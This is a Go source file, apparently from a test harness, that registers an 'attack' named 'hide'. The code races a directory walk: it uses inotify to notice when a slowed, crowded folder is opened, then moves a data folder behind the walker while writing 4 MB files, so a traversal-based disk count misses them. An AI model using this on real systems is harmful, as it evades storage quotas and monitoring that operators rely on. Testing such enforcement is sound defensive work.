package main

import (
	"encoding/binary"
	"errors"
	"fmt"
	"os"
	"path/filepath"
	"strconv"
	"time"

	"golang.org/x/sys/unix"
)

func init() { attacks["hide"] = hide }

// hide writes files of four megabytes into a folder and moves the folder to a place that the count has
// already passed. It watches which folder is opened.
func hide(args []string) string {
	order, watch, err := hidingPlaces()
	if err != nil {
		return errnoName(err)
	}
	first, last := filepath.Join(order[0], "data"), filepath.Join(order[len(order)-1], "data")
	if err := os.Mkdir(last, 0o755); err != nil {
		return errnoName(err)
	}
	content, written := make([]byte, 4<<20), 0
	for end := time.Now().Add(time.Second); written < number(args) || time.Now().Before(end); {
		poll := []unix.PollFd{{Fd: int32(watch), Events: unix.POLLIN}}
		n, err := unix.Poll(poll, 150)
		switch {
		case errors.Is(err, unix.EINTR):
		case err != nil:
			return errnoName(err)
		case n > 0:
			if watched(watch) {
				_ = os.Rename(last, first)
			}
		default:
			_ = os.Rename(first, last)
			if written < number(args) && os.WriteFile(filepath.Join(last, strconv.Itoa(written)), content, 0o600) == nil {
				written++
				end = time.Now().Add(time.Second)
			}
		}
	}
	return fmt.Sprint("wrote ", written)
}

// hidingPlaces makes folders, and returns them as the kernel lists them. Of the second, which
// is large, openings are told.
func hidingPlaces() (order []string, watch int, err error) {
	const top, places, many = "hiding", 8, 15_000
	for i := range places {
		if err := os.MkdirAll(filepath.Join(top, strconv.Itoa(i)), 0o755); err != nil {
			return nil, 0, err
		}
	}
	f, err := os.Open(top)
	if err != nil {
		return nil, 0, err
	}
	names, err := f.Readdirnames(-1)
	if err := errors.Join(err, f.Close()); err != nil {
		return nil, 0, err
	}
	for _, name := range names {
		order = append(order, filepath.Join(top, name))
	}
	for i := range many {
		if err := os.WriteFile(filepath.Join(order[1], strconv.Itoa(i)), nil, 0o600); err != nil {
			return nil, 0, err
		}
	}
	if watch, err = unix.InotifyInit1(unix.IN_CLOEXEC); err != nil {
		return nil, 0, err
	}
	_, err = unix.InotifyAddWatch(watch, order[1], unix.IN_OPEN)
	return order, watch, err
}

// watched reads events and reports whether the first is an open.
func watched(watch int) bool {
	events := make([]byte, 4096)
	n, err := unix.Read(watch, events)
	return err == nil && n >= unix.SizeofInotifyEvent && binary.NativeEndian.Uint32(events[4:])&unix.IN_OPEN != 0
}
